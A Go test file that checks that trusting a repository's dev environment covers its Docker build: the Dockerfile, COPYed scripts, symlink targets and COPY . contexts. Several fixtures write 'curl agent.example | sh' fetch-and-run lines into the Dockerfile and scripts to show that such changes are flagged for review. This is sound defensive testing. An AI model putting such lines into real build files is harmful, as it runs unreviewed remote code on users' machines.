package session

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"sandbar/app/store"
	"sandbar/app/workspace"
)

// TestRepoTrustCoversDockerBuild: the environment's trust covers what
// its Dockerfile build runs, not only the .devcontainer folder: a
// Dockerfile outside it ("../Dockerfile") and the build context's files
// its COPY takes (a script a RUN step runs), read from a real git
// repository. Changing either asks again, with the change in the diff;
// a commit to a file the build does not read does not.
func TestRepoTrustCoversDockerBuild(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	write := f.repoWriter(t)
	commit := func(msg string) {
		t.Helper()
		git(t, f.repo, "add", "-A")
		git(t, f.repo, "commit", "-qm", msg)
	}
	write(".devcontainer/devcontainer.json", `{"build": {"dockerfile": "../Dockerfile", "context": ".."}}`)
	write("Dockerfile", "FROM debian:12\nCOPY setup.sh /tmp/\nRUN /tmp/setup.sh\n")
	write("setup.sh", "echo setting up\n")
	write("other.txt", "not in the build\n")
	commit("environment")
	if _, _, err := f.m.AddProject(ctx, f.repo); err != nil {
		t.Fatal(err)
	}
	env := func() RepoProposal {
		t.Helper()
		r, err := f.m.RepoTrust(ctx, f.repo)
		if err != nil {
			t.Fatal(err)
		}
		return r.Proposal(workspace.SettingsEnvironment)
	}
	trust := func() {
		t.Helper()
		if err := f.m.DecideRepoTrust(ctx, f.repo, store.TrustTrusted, map[string]string{workspace.SettingsEnvironment: env().Hash}); err != nil {
			t.Fatal(err)
		}
		if p := env(); p.State != TrustTrusted {
			t.Fatalf("after trusting: %s", p.State)
		}
	}
	wantChanged := func(what string, inDiff ...string) {
		t.Helper()
		p := env()
		if p.State != TrustChanged {
			t.Fatalf("after %s: %s, want %s (the build runs it)", what, p.State, TrustChanged)
		}
		for _, s := range inDiff {
			if !strings.Contains(p.Diff, s) {
				t.Errorf("after %s, the diff lacks %q:\n%s", what, s, p.Diff)
			}
		}
		trust()
	}

	p := env()
	if p.State != TrustUntrusted {
		t.Fatalf("before any trust: %s", p.State)
	}
	for _, name := range []string{"Dockerfile", "setup.sh", workspace.BuildContextLabel + " . at HEAD)"} {
		if _, ok := p.File(name); !ok {
			t.Errorf("the environment's files lack %s: %s", name, p.Names())
		}
	}
	if !strings.Contains(p.Diff, "+RUN /tmp/setup.sh") || !strings.Contains(p.Diff, "+echo setting up") {
		t.Errorf("the first review does not show the Dockerfile and the script:\n%s", p.Diff)
	}
	trust()

	// A build checks its commit's Dockerfile and context against what was
	// trusted: the same pass; a commit the person did not review (a
	// session's --base, say) is refused, naming what differs.
	proj, err := f.m.findProject(ctx, f.repo)
	if err != nil {
		t.Fatal(err)
	}
	r, err := f.m.RepoTrust(ctx, f.repo)
	if err != nil {
		t.Fatal(err)
	}
	rec, cfg, err := repoEnvironment(r)
	if err != nil || rec == nil || rec.Build == nil {
		t.Fatalf("the trusted environment keeps no build inputs: %v", err)
	}
	check := func() error {
		t.Helper()
		repo, err := workspace.Resolve(ctx, f.repo)
		if err != nil {
			t.Fatal(err)
		}
		mr, unlock, err := f.m.mirror(ctx, proj.ID)
		if err != nil {
			t.Fatal(err)
		}
		defer unlock()
		commit, err := mr.Fetch(ctx, repo, "", nil)
		if err != nil {
			t.Fatal(err)
		}
		df, err := mr.ObjectAt(ctx, commit, cfg.Build.Dockerfile, 1<<20)
		if err != nil {
			t.Fatal(err)
		}
		return checkTrustedBuild(ctx, mr, commit, cfg.Build, df.Data, rec.Build)
	}
	if err := check(); err != nil {
		t.Fatalf("the trusted commit's build: %v", err)
	}
	head := strings.TrimSpace(git(t, f.repo, "rev-parse", "HEAD"))
	write("setup.sh", "echo not reviewed\n")
	commit("not reviewed")
	if err := check(); err == nil || !strings.Contains(err.Error(), "build context") || !strings.Contains(err.Error(), "not the ones you trusted") {
		t.Errorf("a commit with another context script: %v", err)
	}
	write("Dockerfile", "FROM debian:12\nRUN echo not reviewed\n")
	commit("not reviewed either")
	if err := check(); err == nil || !strings.Contains(err.Error(), "Dockerfile at ") {
		t.Errorf("a commit with another Dockerfile: %v", err)
	}
	git(t, f.repo, "reset", "-q", "--hard", head)

	write("other.txt", "changed, and no build reads it\n")
	commit("other")
	if p := env(); p.State != TrustTrusted {
		t.Errorf("a commit to a file the build does not read: %s, want still trusted", p.State)
	}

	write("Dockerfile", "FROM debian:12\nCOPY setup.sh /tmp/\nRUN /tmp/setup.sh && curl agent.example | sh\n")
	wantChanged("the Dockerfile outside .devcontainer changed", "--- Dockerfile", "+RUN /tmp/setup.sh && curl agent.example | sh")
	commit("dockerfile")

	write("setup.sh", "echo setting up\ncurl agent.example | sh\n")
	commit("script")
	wantChanged("the script the RUN step runs changed", "--- setup.sh", "+curl agent.example | sh")

	// A symlink the builder would follow widens the trust to the whole
	// context: its target's change asks again too.
	os.MkdirAll(filepath.Join(f.repo, "scripts"), 0o755)
	write("scripts/real.sh", "echo real\n")
	if err := os.Symlink("scripts/real.sh", filepath.Join(f.repo, "link.sh")); err != nil {
		t.Fatal(err)
	}
	write("Dockerfile", "FROM debian:12\nCOPY link.sh /tmp/\nRUN /tmp/link.sh\n")
	commit("link")
	wantChanged("COPY of a symlink")
	write("scripts/real.sh", "curl agent.example | sh\n")
	commit("link target")
	wantChanged("the symlink's target changed", "scripts/real.sh")

	// COPY . takes the whole context: any commit in it asks again.
	write("Dockerfile", "FROM debian:12\nCOPY . /src\nRUN make -C /src\n")
	commit("copy all")
	wantChanged("COPY .")
	write("other.txt", "now it is in the build\n")
	commit("other again")
	wantChanged("a file COPY . takes", "other.txt")

	// A Dockerfile outside the repository is refused, naming the field.
	write(".devcontainer/devcontainer.json", `{"build": {"dockerfile": "../../Dockerfile"}}`)
	trust()
	r, err = f.m.RepoTrust(ctx, f.repo)
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := repoEnvironment(r); err == nil || !strings.Contains(err.Error(), "leads out of the repository") {
		t.Errorf("a Dockerfile outside the repository: %v", err)
	}
}
